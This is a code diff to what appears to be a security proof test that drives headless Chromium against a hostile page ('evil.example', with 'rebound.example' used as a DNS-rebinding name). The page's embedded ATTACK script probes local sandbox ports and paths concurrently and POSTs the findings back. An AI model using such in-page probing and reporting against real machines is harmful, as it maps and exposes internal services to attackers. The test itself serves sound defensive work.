@@ -15,14 +15,15 @@ import { stateFolder } from '../sandbox/tools/folders.js';
 import { listeningPorts } from '../sandbox/tools/test/listening-ports.js';
 
 const CANDIDATES = [process.env.CHROMIUM ?? '', '/usr/bin/chromium', '/usr/bin/google-chrome'];
-const DEADLINE_MS = 180_000;
+const DEADLINE_MS = 300_000;
 /** Belongs to the page; `rebound.example` is a name of the attacker that was bound to this machine later. */
 const SITE = 'evil.example';
 const HOSTS = ['127.0.0.1', 'localhost', 'films.localhost', 'rebound.example'];
 
 /** Runs in the page. */
 const ATTACK = `
-const settled = (start) => new Promise((done) => { start(done); setTimeout(done, 4000, 'nothing'); });
+const settled = (start) => new Promise((done) => { start(done); setTimeout(done, 1500, 'nothing'); });
+const late = () => new Promise((done) => setTimeout(done, 3000, 'nothing'));
 const element = (name, url) => settled((done) => {
   const made = document.createElement(name);
   made.onload = () => done('loaded');
@@ -69,11 +70,15 @@ const ways = (url) => ({
 });
 (async () => {
   const results = [];
-  for (const url of URLS) {
-    const all = Object.entries(ways(url));
-    const answers = await Promise.all(all.map(([, way]) => way().catch(String)));
-    results.push(...all.map(([name], at) => ({ url, way: name, result: answers[at] })));
-  }
+  const waiting = [...URLS];
+  const work = async () => {
+    for (let url = waiting.pop(); url; url = waiting.pop()) {
+      const all = Object.entries(ways(url));
+      const answers = await Promise.all(all.map(([, way]) => Promise.race([way().catch(String), late()])));
+      results.push(...all.map(([name], at) => ({ url, way: name, result: answers[at] })));
+    }
+  };
+  await Promise.all(Array.from({ length: 10 }, work));
   await fetch('/done', { method: 'POST', body: JSON.stringify(results) });
 })();`;
 
@@ -92,7 +97,7 @@ async function prove(chromium: string): Promise<void> {
   const ports = [...new Set(found.map(({ port }) => port))];
   if (ports.length === 0) throw new Error('no sandbox runs: backlot up');
   for (const { port, command, address } of found) process.stdout.write(`${port} ${address} ${command}\n`);
-  const paths = ['/', '/metrics', '/healthz', '/_backlot/health', '/api/v1/query?query=up', '/load'];
+  const paths = ['/', '/metrics', '/_backlot/health'];
   const urls = ports.flatMap((port) =>
     ['http', 'https'].flatMap((scheme) =>
       HOSTS.flatMap((host) => paths.map((path) => `${scheme}://${host}:${port}${path}`)),
@@ -174,7 +179,7 @@ function statuses(log: string): { url: string; status: number }[] {
   const urls = new Map<number, string>();
   return lines.flatMap((line) => {
     if (!line.startsWith('{"')) return [];
-    const event = JSON.parse(line.replace(/(\]\}|,)\s*$/, '')) as {
+    const event = JSON.parse(line.replace(/[\],\s]+$/, '')) as {
       type: number;
       source: { id: number };
       params?: { url?: string; headers?: readonly string[] };
